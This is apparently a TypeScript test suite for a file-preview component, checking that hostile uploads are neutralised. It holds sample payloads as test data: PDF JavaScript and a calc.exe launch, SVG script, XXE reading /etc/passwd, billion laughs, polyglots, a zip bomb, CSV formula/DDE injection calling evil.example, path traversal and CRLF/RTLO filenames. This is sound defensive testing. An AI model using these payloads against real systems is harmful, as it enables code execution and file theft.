import fc from 'fast-check'
import { strToU8, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { png } from '../../../testing/png.ts'
import { plainName } from '../download-file.ts'
import { previewOf } from './preview-of.ts'
import { sniffContent } from './sniff-content.ts'

const zipped = (parts: Record<string, string | Uint8Array>) =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
      ),
      { level: 9 },
    ),
  )
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const workbookParts = {
  '[Content_Types].xml': '<Types/>',
  'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="Rate" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
}
/** A workbook of one sheet with these rows, as XML. */
const workbook = (rows: string | Uint8Array) =>
  zipped({
    ...workbookParts,
    'xl/worksheets/sheet1.xml':
      typeof rows === 'string'
        ? `<worksheet xmlns="${main}"><sheetData>${rows}</sheetData></worksheet>`
        : rows,
  })
const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`
const text = (content: string) => previewOf(Buffer.from(content))

describe('what is shown follows from the content', () => {
  it('of a PDF its pages, with what it would do if it could', async () => {
    const pdf =
      '%PDF-1.7\n1 0 obj <</OpenAction <</S /J#61vaScript /JS (app.alert(1))>> /A <</S /Launch /F (calc.exe)>>>>'
    expect(await text(pdf)).toEqual({
      shows: 'pages',
      mime: 'application/pdf',
      notes: ['Contiene script', 'Cerca di avviare un programma'],
    })
    expect(await text('%PDF-1.4\n1 0 obj')).toMatchObject({ shows: 'pages', notes: [] })
  })
  it('of a picture the picture, if a browser can hold it', async () => {
    expect(await previewOf(png())).toEqual({ shows: 'picture', mime: 'image/png' })
    expect(await previewOf(png({ width: 60_000, height: 60_000, rows: 1 }))).toMatchObject({
      shows: 'nothing',
      why: expect.stringContaining('troppo grande'),
    })
    expect(await previewOf(png().subarray(0, 12))).toMatchObject({ shows: 'nothing' })
  })
  it('of a sheet 200 rows and 50 columns, as texts', async () => {
    const rows = Array.from(
      { length: 300 },
      (_, at) => `<row r="${at + 1}">${cell(`A${at + 1}`, `riga ${at}`)}</row>`,
    )
    const shown = await previewOf(workbook(rows.join('')))
    expect(shown).toMatchObject({ shows: 'table', sheets: ['Rate'], sheet: 0, more: true })
    expect(shown.shows === 'table' && shown.rows).toHaveLength(200)
    const wide = Array.from({ length: 60 }, (_, at) => `c${at}`).join(';')
    const csv = await text(`${wide}\n${wide}\n`)
    expect(csv.shows === 'table' && [csv.rows.length, csv.rows[0]?.length, csv.more]).toEqual([2, 50, true])
  })
  it('of a formula the stored result, and never the formula', async () => {
    const shown = await previewOf(
      workbook('<row r="1"><c r="A1"><f>WEBSERVICE("https://example.it/"&amp;B1)</f><v>7</v></c></row>'),
    )
    expect(shown.shows === 'table' && shown.rows).toEqual([['7']])
  })
  it('of text at most 100 kB', async () => {
    const shown = await text('ciao '.repeat(40_000))
    expect(shown.shows === 'text' && [shown.text.length, shown.more]).toEqual([100_000, true])
    expect(await previewOf(Buffer.from('è'.repeat(60_000)))).toMatchObject({ shows: 'text', more: true })
  })
})

describe('an attack', () => {
  it.each([
    ['a web page named .pdf', '<!doctype html><script>alert(1)</script>%PDF-1.4'],
    [
      'SVG with a script',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    ],
    ['XML with external entities', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['billion laughs', '<!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'],
  ])('%s is text, as it was written', async (_what, content) => {
    expect(await text(content)).toEqual({ shows: 'text', text: content, more: false })
  })
  it('a GIF that is a script as well is not shown', async () => {
    expect(await text('GIF89a/*\x01*/=1;alert(1)')).toMatchObject({ shows: 'nothing' })
  })
  it('a JPEG with a web page in its comment is a picture, or nothing', async () => {
    const comment = Buffer.from('<script>alert(1)</script>')
    const head = Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, comment.length + 2])
    const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 2, 0, 3, 1, 1, 0x11, 0, 0xff, 0xd9])
    expect(await previewOf(Buffer.concat([head, comment, frame]))).toEqual({
      shows: 'picture',
      mime: 'image/jpeg',
    })
    expect(await previewOf(Buffer.concat([head, comment]))).toMatchObject({ shows: 'nothing' })
  })
  it('a program with the name of a PDF is not shown', async () => {
    expect(await text('MZ\x90\0\x03\0\0\0%PDF-1.4')).toMatchObject({ shows: 'nothing', why: /programma/ })
  })
  it('a sheet that inflates beyond all measure is refused', async () => {
    const bomb = await previewOf(workbook(new Uint8Array(24 * 1024 * 1024).fill(0x20)))
    expect(bomb).toMatchObject({ shows: 'nothing', why: expect.stringContaining('molto più spazio') })
  })
  it('a sheet with entities is refused', async () => {
    const hostile = `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet xmlns="${main}"><sheetData><row r="1">${cell('A1', '&x;')}</row></sheetData></worksheet>`
    expect(await previewOf(workbook(strToU8(hostile)))).toMatchObject({
      shows: 'nothing',
      why: expect.stringContaining('DOCTYPE'),
    })
  })
  it('a formula in a CSV is its text', async () => {
    const shown = await text(
      'nome;importo\n=HYPERLINK("http://evil.example");1\n@SUM(1+1)*cmd|/c calc!A0;2\n',
    )
    expect(shown.shows === 'table' && shown.rows.slice(1)).toEqual([
      ['=HYPERLINK("http://evil.example")', '1'],
      ['@SUM(1+1)*cmd|/c calc!A0', '2'],
    ])
  })
  it('an archive with other things in it is no sheet', async () => {
    expect(await previewOf(zipped({ '../../etc/passwd': 'x', 'index.html': '<script/>' }))).toMatchObject({
      shows: 'nothing',
    })
  })
  it.each([
    ['../../etc/passwd', 'passwd'],
    ['C:\\Windows\\win.ini', 'win.ini'],
    ['fattura\u202Efdp.exe', 'fatturafdp.exe'],
    ['a\r\nset-cookie: x.pdf', 'aset-cookie x.pdf'],
    ['..', 'file'],
  ])('the name %j is saved as %j', (name, saved) => {
    expect(plainName(name)).toBe(saved)
  })
})

describe('no bytes make it fail', () => {
  const beginnings = [
    '',
    '%PDF-1.7 ',
    '\x89PNG\r\n\x1a\n',
    '\xff\xd8\xff',
    'RIFF\0\0\0\0WEBPVP8 ',
    'PK\x03\x04',
    'GIF89a',
    '\xff\xfe',
    '\xef\xbb\xbf',
    '<svg',
    'a;b\nc;d\n',
  ]
  const bytes = fc
    .tuple(fc.constantFrom(...beginnings), fc.uint8Array({ maxLength: 300 }))
    .map(([begins, rest]) => Buffer.concat([Buffer.from(begins, 'latin1'), rest]))
  it('the sniffer names something for everything', () => {
    fc.assert(
      fc.property(bytes, (content) => {
        expect(['pdf', 'picture', 'zip', 'text', 'other']).toContain(sniffContent(content).is)
      }),
      { numRuns: 2000 },
    )
  })
  it('a preview shows something, or says why not', async () => {
    await fc.assert(
      fc.asyncProperty(bytes, async (content) => {
        const shown = await previewOf(content)
        if (shown.shows === 'nothing') expect(shown.why).toMatch(/\.$/)
      }),
      { numRuns: 25 },
    )
  })
  it('a damaged sheet is refused', async () => {
    const whole = workbook(`<row r="1">${cell('A1', 'ciao')}</row>`)
    await fc.assert(
      fc.asyncProperty(fc.nat(whole.length - 1), fc.nat(255), async (at, byte) => {
        const damaged = Buffer.from(whole)
        damaged[at] = byte
        const shown = await previewOf(damaged)
        expect(['table', 'nothing', 'text']).toContain(shown.shows)
      }),
      { numRuns: 25 },
    )
  })
})
